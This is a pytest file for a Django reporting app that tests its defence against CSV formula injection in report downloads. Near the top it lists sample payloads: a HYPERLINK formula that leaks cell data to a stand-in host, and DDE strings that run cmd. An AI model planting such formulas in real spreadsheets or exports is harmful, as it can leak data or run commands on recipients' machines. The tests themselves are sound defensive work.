"""CSV downloads never carry a spreadsheet formula: customers choose their own names (and agents, admins
the rest of the text), so a cell of text that a spreadsheet would run gets a leading "'" (OWASP "CSV
injection"), in every table of every report; computed figures stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.contrib.auth.models import User
from django.urls import reverse

from conversations.models import Customer
from reports.models import Rate
from reports.pricing import Amounts
from reports.tables import Change, Link, Money, Percent, csv_cell, spreadsheet_text
from tests.reports.conftest import NOW

pytestmark = pytest.mark.django_db

WEEK = {"range": "custom", "start": "2026-01-05", "end": "2026-01-11"}
# What a customer can call themselves on WhatsApp, and what a spreadsheet would make of it.
HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert spreadsheet_text(text) == f"'{text}"
    assert csv_cell(text) == f"'{text}"
    assert csv_cell(Link(text, "/admin/x/")) == f"'{text}"


@pytest.mark.parametrize("text", ["Anna", "Ärger GmbH", "n/a", "'=already quoted", "a=b", ""])
def test_other_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


def negative_amounts() -> Amounts:
    amounts = Amounts()
    amounts.add("USD", Decimal("-0.01"))
    amounts.add("EUR", Decimal("2"))
    return amounts


@pytest.mark.parametrize(
    ("figure", "text"),
    [
        (-3, "-3"),
        (Decimal("-1.5"), "-1.50"),
        (Change(2, 4), "-2 (-50.0%)"),
        (Change(3, 0), "+3 (new)"),
        (Money(Decimal("-0.5"), "USD"), "-0.50 USD"),
        (Percent(1, 4), "25.0%"),
        (timedelta(minutes=-1), "-1:59:00"),
        (None, "n/a"),
        (negative_amounts(), "2.00 EUR + -0.01 USD"),
    ],
)
def test_computed_figures_stay_as_they_are(figure, text):
    assert csv_cell(figure) == text


@pytest.fixture
def hostile_week(week, rates):
    """The conftest's week with hostile text wherever the reports copy someone's input."""
    Customer.objects.filter(name="Emma").update(name=HOSTILE["equals"])  # her conversation was voided
    Customer.objects.filter(name="Chloe").update(name=HOSTILE["at"])  # her window was lost
    User.objects.filter(username="alex").update(first_name=HOSTILE["minus"])
    Rate.objects.filter(category="utility", pricing_model="message").update(note=HOSTILE["plus"])
    return week


def download(client, page: str, table: str) -> list[list[str]]:
    with time_machine.travel(NOW, tick=False):
        response = client.get(reverse(page), {**WEEK, "format": "csv", "table": table})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("page", "table", "column", "expected"),
    [
        ("reports:conversations", "voided", "customer", f"'{HOSTILE['equals']} (4917612345678)"),
        ("reports:conversations", "voided", "opened by", f"'{HOSTILE['minus']} (alex)"),
        ("reports:conversations", "agents", "agent", f"'{HOSTILE['minus']} (alex)"),
        ("reports:windows", "lost", "customer", f"'{HOSTILE['at']} (447400123456)"),
        ("reports:windows", "agents", "agent", f"'{HOSTILE['minus']} (alex)"),
        ("reports:costs", "rates", "note", f"'{HOSTILE['plus']}"),
    ],
)
def test_every_download_guards_the_text_it_copies(client, hostile_week, page, table, column, expected):
    client.force_login(hostile_week["supervisor"])
    header, *rows = download(client, page, table)
    assert expected in [row[header.index(column)] for row in rows]
    for row in rows:
        for value in row:
            assert not value.startswith(tuple(HOSTILE.values())), (table, row)
